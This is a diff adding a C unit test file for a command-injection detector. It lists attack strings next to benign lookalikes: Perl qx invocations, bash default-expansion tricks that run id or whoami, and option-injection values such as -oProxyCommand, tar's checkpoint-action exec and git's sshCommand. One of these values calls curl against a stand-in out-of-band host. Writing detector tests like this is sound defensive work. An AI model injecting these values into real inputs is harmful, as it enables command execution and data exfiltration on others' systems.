@@ -1,0 +1,113 @@
+/* test_payload_rtc5.c - issue 20, helper c (session 27): command
+ * injection rows of the review's open findings (rev5 G2, E3) and of a
+ * fresh table's misses, one test per construct. Every value is judged as
+ * a query parameter value and as a form body (payload_rt_table.h): an
+ * attack must draw its own kind in both, a benign value nothing in
+ * either. */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include <stdio.h>
+#include <string.h>
+
+#include "collector/detect/payload.h"
+
+#include "tests/unit/payload_rt_table.h"
+
+#define C PAYLOAD_CMDI
+#define N PAYLOAD_NONE
+
+/* Perl's qx with any punctuation as its delimiter, or blanks before it
+ * (rev5 G2, E3): the value's only punctuation may be no cmdi gate byte */
+static void test_cmdi_qx_any_delim(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"qx#id#", C},
+		{"qx~id~", C},
+		{"qx:id:", C},
+		{"qx.id.", C},
+		{"qx@id@", C},
+		{"qx-id-", C},
+		{"qx^whoami^", C},
+		{"qx~uname -a~", C},
+		{"qx (id)", C},
+		{"qx\t{id}", C},
+		{"qx [id]", C},
+		{"qx :whoami:", C},
+		{"x=qx,id,;", C},
+		/* qooxdoo's namespace, ids and part numbers */
+		{"qx.ui.form.Button", N},
+		{"qx.core.Init.getApplication()", N},
+		{"qx.test.Unit", N},
+		{"qx-id-list", N},
+		{"QX:1234", N},
+		{"qx-2000 series", N},
+	};
+	rt_run("cmdi-qx-any-delim", t, sizeof(t) / sizeof(t[0]));
+}
+
+/* ${..} defaults spelt otherwise (rev5 E3): bash's indirection ${!x:-..}
+ * and $'..' quoting run the default too */
+static void test_cmdi_default_spelt(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{";${x:-$'id'}", C},
+		{";${!x:-uname}", C},
+		{"|${!y:-whoami}", C},
+		{"&& ${z:-$'\\x69\\x64'}", C},
+		{"&& ${z:-$'\\151\\144'}", C},
+		{"${HOME:-/root}", N},
+		{"${!prefix@}", N},
+		{"${PORT:-8080}", N},
+	};
+	rt_run("cmdi-default-spelt", t, sizeof(t) / sizeof(t[0]));
+}
+
+/* an option that runs a command, written with no blank: no cmdi gate
+ * byte but the lead '-' and '=' */
+static void test_cmdi_arg_no_blank(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"-oProxyCommand=id", C},
+		{"-oProxyCommand=curl${IFS}x.oob.example", C},
+		{"--use-compress-program=sh", C},
+		{"--checkpoint-action=exec=sh", C},
+		{"--to-command=id", C},
+		{"--compress-program=id", C},
+		{"--open-files-in-pager=id", C},
+		{"-execdir sh -c id {} ;", C},
+		{"--config=core.sshCommand=id", C},
+		{"-c core.sshCommand=id", C},
+		{"-o json", N},
+		{"--output=json", N},
+		{"--output=report.csv", N},
+		{"--format=table", N},
+		{"--since=2024-01-01", N},
+		{"-Dmaven.test.skip=true", N},
+		{"--max-old-space-size=4096", N},
+		{"-Dlog4j2.formatMsgNoLookups=true", N},
+		{"--config=config/app.yml", N},
+		{"--label=team=payments", N},
+		{"--checkpoint=1000", N},
+		{"-12.5", N},
+		{"tar --use-compress-program=zstd -cf backup.tar.zst data/", N},
+		{"git -c core.editor=vim commit", N},
+	};
+	rt_run("cmdi-arg-no-blank", t, sizeof(t) / sizeof(t[0]));
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_cmdi_qx_any_delim),
+		cmocka_unit_test(test_cmdi_default_spelt),
+		cmocka_unit_test(test_cmdi_arg_no_blank),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
